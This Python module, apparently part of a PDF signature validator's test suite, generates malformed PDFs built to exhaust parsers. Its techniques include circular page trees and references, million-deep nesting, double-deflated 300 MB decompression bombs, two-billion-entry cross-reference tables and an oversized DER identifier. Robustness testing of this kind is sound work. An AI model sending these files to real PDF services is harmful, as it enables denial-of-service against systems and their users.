"""Files made to exhaust whoever reads them: small, and without end; and some that are merely large."""

import zlib
from typing import Final

from attacks.on_containers import value_of
from attacks.registry import attack
from attacks.revisions import append, body, last_start, opened, root_of, size_of, stream, wrapped, xref_stream
from attacks.workshop import Workshop

from signing import der

MANY: Final = 1_000_000
_CATALOG: Final = b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [%s] >> >>"
_PAGES: Final = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
_PAGE: Final = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100 100] >>"


def document(*objects: bytes, size: int | None = None) -> bytes:
    """A small document by hand."""
    out, lines = b"%PDF-1.7\n", b"0000000000 65535 f \n"
    for number, text in enumerate(objects, 1):
        lines += b"%010d 00000 n \n" % len(out)
        out += wrapped(number, text)
    table = b"xref\n0 %d\n%strailer\n<< /Size %d /Root 1 0 R >>\n" % (len(objects) + 1, lines, size or len(objects) + 1)
    return out + table + b"startxref\n%d\n%%%%EOF\n" % len(out)


def pages_number(pdf: bytes) -> int:
    """Object number of the page tree's root."""
    with opened(pdf) as reader:
        return int(reader.Root.Pages.objgen[0])


@attack()
def page_tree_in_a_circle(workshop: Workshop) -> bytes:
    pdf = workshop.pdf()
    number = pages_number(pdf)
    return append(pdf, {number: b"<< /Type /Pages /Kids [%d 0 R %d 0 R] /Count 2 >>" % (number, number)})


@attack()
def page_tree_of_itself(workshop: Workshop) -> bytes:
    """A stranger's document, not an update: the tree is its own only child."""
    del workshop
    return document(_CATALOG % b"", b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>")


@attack()
def pages_ten_thousand(workshop: Workshop) -> bytes:
    pdf = workshop.pdf()
    number = pages_number(pdf)
    return append(pdf, {number: b"<< /Type /Pages /Kids [" + b"3 0 R " * 10_000 + b"] /Count 10000 >>"})


@attack()
def page_tree_with_more_paths_than_pages(workshop: Workshop) -> bytes:
    """Ten children each, twelve levels deep: a dozen objects, a million million pages."""
    del workshop
    levels = [b"<< /Type /Pages /Count 9 /Kids [%s] >>" % (b"%d 0 R " % (4 + level) * 10) for level in range(12)]
    return document(_CATALOG % b"", b"<< /Type /Pages /Kids [4 0 R] /Count 9 >>", _PAGE, *levels, _PAGE)


@attack()
def fields_in_a_circle(workshop: Workshop) -> bytes:
    del workshop
    return document(_CATALOG % b"4 0 R", _PAGES, _PAGE, b"<< /T (a) /FT /Sig /Kids [4 0 R 4 0 R] >>")


@attack()
def fields_by_the_hundred_thousand(workshop: Workshop) -> bytes:
    del workshop
    return document(_CATALOG % (b"4 0 R " * 200_000), _PAGES, _PAGE, b"<< /T (a) /FT /Sig >>")


@attack()
def fields_a_million_behind_the_seal(workshop: Workshop) -> bytes:
    pdf = workshop.pdf()
    with opened(pdf) as reader:
        number = reader.Root.AcroForm.objgen[0]
        field = reader.Root.AcroForm.Fields[0].objgen[0]
    return append(pdf, {number: b"<< /Fields [" + b"%d 0 R " % field * MANY + b"] /SigFlags 3 >>"})


@attack()
def arrays_in_arrays(workshop: Workshop) -> bytes:
    del workshop
    return document(_CATALOG % (b"[" * MANY + b"]" * MANY), _PAGES, _PAGE)


@attack()
def arrays_in_arrays_behind_the_seal(workshop: Workshop) -> bytes:
    pdf = workshop.pdf()
    return append(pdf, {size_of(pdf): b"[" * MANY + b"]" * MANY})


@attack()
def dictionaries_in_dictionaries_behind_the_seal(workshop: Workshop) -> bytes:
    pdf = workshop.pdf()
    return append(pdf, {size_of(pdf): b"<</A" * 200_000 + b" 0 " + b">>" * 200_000})


@attack()
def references_in_a_circle(workshop: Workshop) -> bytes:
    del workshop
    return document(b"<< /Type /Catalog /Pages 2 0 R /AcroForm 4 0 R >>", _PAGES, _PAGE, b"5 0 R", b"4 0 R")


@attack()
def deflated_without_end(workshop: Workshop) -> bytes:
    """A page content that unfolds twice, to 300 MB."""
    pdf = workshop.pdf()
    folded = zlib.compress(zlib.compress(bytes(300_000_000), 9), 9)
    return append(pdf, {size_of(pdf): stream(folded, b"/Filter [/FlateDecode /FlateDecode]")})


@attack()
def cross_references_deflated_without_end(workshop: Workshop) -> bytes:
    pdf = workshop.pdf()
    data = zlib.compress(bytes(100_000_000), 9)
    number = size_of(pdf)
    entries = b"/Type /XRef /W [1 8 2] /Size %d /Root %d 0 R /Prev %d /Filter /FlateDecode" % (
        number + 1,
        root_of(pdf),
        last_start(pdf),
    )
    start = len(pdf)
    return pdf + wrapped(number, stream(data, entries)) + b"startxref\n%d\n%%%%EOF\n" % start


@attack()
def cross_references_of_two_thousand_million(workshop: Workshop) -> bytes:
    del workshop
    data = zlib.compress(bytes(10))
    entries = b"/Type /XRef /W [0 0 0] /Size 2147483647 /Index [0 2000000000] /Root 1 0 R /Filter /FlateDecode"
    head = b"%PDF-1.7\n"
    return head + wrapped(4, stream(data, entries)) + b"startxref\n%d\n%%%%EOF\n" % len(head)


@attack()
def cross_references_of_many_behind_the_seal(workshop: Workshop) -> bytes:
    pdf = workshop.pdf()
    number = size_of(pdf)
    entries = b"/Type /XRef /W [0 0 0] /Size 2147483647 /Index [0 2000000000] /Root %d 0 R /Prev %d" % (
        root_of(pdf),
        last_start(pdf),
    )
    return pdf + wrapped(number, stream(b"", entries)) + b"startxref\n%d\n%%%%EOF\n" % len(pdf)


@attack()
def object_number_beyond_all(workshop: Workshop) -> bytes:
    pdf = workshop.pdf()
    number = 2_147_483_646
    start = len(pdf) + len(wrapped(number, b"null"))
    lines = {number: (1, len(pdf))}
    trailer = b"/Size %d /Root %d 0 R /Prev %d" % (number + 2, root_of(pdf), last_start(pdf))
    section = xref_stream(number + 1, start, lines, trailer)
    return pdf + wrapped(number, b"null") + section + b"startxref\n%d\n%%%%EOF\n" % start


@attack()
def number_of_a_million_digits(workshop: Workshop) -> bytes:
    pdf = workshop.pdf()
    return append(pdf, {size_of(pdf): b"9" * MANY})


@attack()
def object_streams_in_a_circle(workshop: Workshop) -> bytes:
    """Each extends the other."""
    pdf = workshop.pdf()
    number = size_of(pdf)
    one, other = (
        stream(b"9000 0 null", b"/Type /ObjStm /N 1 /First 7 /Extends %d 0 R" % extended)
        for extended in (number + 1, number)
    )
    return append(pdf, {number: one, number + 1: other})


@attack()
def object_stream_in_itself(workshop: Workshop) -> bytes:
    """The cross-reference says that the object stream is an object of itself."""
    pdf = workshop.pdf()
    number = size_of(pdf)
    data = b"\x02" + number.to_bytes(4, "big") + b"\0" + b"\x01" + len(pdf).to_bytes(4, "big") + b"\0"
    entries = b"/Type /XRef /W [1 4 1] /Index [%d 2] /Size %d /Root %d 0 R /Prev %d" % (
        number,
        number + 2,
        number,
        last_start(pdf),
    )
    return pdf + wrapped(number + 1, stream(data, entries)) + b"startxref\n%d\n%%%%EOF\n" % len(pdf)


@attack()
def revisions_fifty_thousand(workshop: Workshop) -> bytes:
    """Each a table of nothing, which names the same one before it."""
    pdf = workshop.pdf()
    trailer = b"trailer\n<< /Size %d /Root %d 0 R /Prev %d >>\n" % (size_of(pdf), root_of(pdf), last_start(pdf))
    one = b"xref\n0 0\n" + trailer + b"startxref\n%d\n%%%%EOF\n" % len(pdf)
    return pdf + one * 50_000


@attack()
def byte_ranges_a_million(workshop: Workshop) -> bytes:
    del workshop
    return b"%PDF-1.7\n" + b"/ByteRange [0 10 20 30]" * MANY


@attack()
def blanks_thirty_megabytes(workshop: Workshop) -> bytes:
    return workshop.pdf() + b" " * 30_000_000


@attack()
def blanks_thirty_megabytes_in_an_update(workshop: Workshop) -> bytes:
    pdf = workshop.pdf()
    return append(pdf, {size_of(pdf): b"(" + b" " * 30_000_000 + b")"})


@attack()
def open_strings_in_an_update(workshop: Workshop) -> bytes:
    """Every parenthesis opens a string that is looked for to the end of the file."""
    pdf = workshop.pdf()
    return append(pdf, {size_of(pdf): b"(" * MANY})


@attack()
def headers_of_objects_a_million(workshop: Workshop) -> bytes:
    """For those who search for objects by their look."""
    pdf = workshop.pdf()
    return append(pdf, {size_of(pdf): b"null\nendobj\n" + b"1 0 obj\n" * MANY + b"null"})


@attack()
def gap_larger_than_any_signature(workshop: Workshop) -> bytes:
    """In a stranger's document."""
    del workshop
    value = b"<< /Type /Sig /SubFilter /ETSI.CAdES.detached /ByteRange [0 300 4400302 9] /Contents <%s> >>"
    return document(_CATALOG % b"4 0 R", _PAGES, _PAGE, b"<< /FT /Sig /T (a) /V 5 0 R >>", value % (b"0" * 4_400_000))


@attack()
def container_with_an_endless_identifier(workshop: Workshop) -> bytes:
    """An object identifier with one arc of hundreds of thousands of octets: arithmetic that grows with its square."""
    arc = b"\x2a" + b"\x81" * 700_000 + b"\x01"
    value = value_of(workshop.pdf())
    inside = der.read(value).members(der.SEQUENCE)[1].raw
    bad = der.tlv(der.SEQUENCE, der.tlv(der.OBJECT_IDENTIFIER, arc), inside)
    digits = bad.hex().upper().encode("ascii")
    signature = b"<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached %s /Contents <%s> >>"
    room = b"/ByteRange [0 0 0 0]".ljust(60)
    pdf = document(_CATALOG % b"4 0 R", _PAGES, _PAGE, b"<< /FT /Sig /T (a) /V 5 0 R >>", signature % (room, digits))
    first = pdf.index(b"/Contents <") + len(b"/Contents ")
    second = first + len(digits) + 2
    said = b"/ByteRange [0 %d %d %d]" % (first, second, len(pdf) - second)
    return pdf.replace(room, said.ljust(len(room)), 1)


@attack()
def store_of_endless_lists(workshop: Workshop) -> bytes:
    """A security store whose revocation lists unfold to 300 MB each."""
    pdf = workshop.pdf()
    number = size_of(pdf)
    folded = stream(zlib.compress(zlib.compress(bytes(300_000_000), 9), 9), b"/Filter [/FlateDecode /FlateDecode]")
    with opened(pdf) as reader:
        catalog = body(reader.Root)
    store = b"<< /Type /DSS /CRLs [" + b"%d 0 R " % number * 1000 + b"] >>"
    root = catalog.replace(b"/Type /Catalog", b"/Type /Catalog /DSS %d 0 R" % (number + 1), 1)
    assert root != catalog
    return append(pdf, {root_of(pdf): root, number: folded, number + 1: store})
